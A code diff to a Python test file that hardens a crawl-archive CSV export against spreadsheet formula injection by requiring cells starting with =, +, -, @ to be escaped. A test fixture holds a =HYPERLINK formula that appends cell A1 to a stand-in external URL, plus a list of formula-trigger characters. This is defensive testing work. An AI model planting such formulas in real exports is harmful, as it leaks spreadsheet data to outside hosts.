@@ -23,6 +23,7 @@ from test_crawl_archive import PROJECT, command, crawl, declare_in, notice, rout
 from test_revisits import captures_of, faults
 from warcio.archiveiterator import ArchiveIterator
 
+from pipelines.tables import guarded
 from zhenggai.release import NOT_FOR_READERS
 
 FORMULA = '=HYPERLINK("http://a.example/?"&A1,"市水务局")'
@@ -116,14 +117,16 @@ def test_csv_and_parquet_hold_what_the_archive_holds(release: Path) -> None:
         with (release / "csv" / f"{table}.csv").open(encoding="utf-8", newline="") as file:
             read = list(csv.DictReader(file))
         texts = [name for name, kind in copy.table(table).columns_dict.items() if kind is str]
-        assert [[row[name] for name in texts] for row in read] == [[row[name] or "" for name in texts] for row in rows], table
+        assert [[row[name] for name in texts] for row in read] == [[guarded(row[name] or "") for name in texts] for row in rows], table
 
 
-def test_values_are_raw_and_null_is_not_an_empty_text(release: Path) -> None:
+def test_no_cell_is_a_formula_and_null_is_not_an_empty_text(release: Path) -> None:
     raw = (release / "csv" / "notices.csv").read_text("utf-8")
-    assert '"=HYPERLINK(""http://a.example/?""&A1,""市水务局"")"' in raw
+    assert '"\'=HYPERLINK(""http://a.example/?""&A1,""市水务局"")"' in raw
     (row,) = [line for line in raw.splitlines() if "HYPERLINK" in line]
     assert '"河北省",,"",' in row, "no city, and an empty county"
+    with (release / "csv" / "notices.csv").open(encoding="utf-8", newline="") as file:
+        assert not [cell for row in csv.reader(file) for cell in row if cell.startswith(tuple("=+-@＝＋－＠"))]
     assert "= + - @" in (release / "README.txt").read_text("utf-8")
 
 
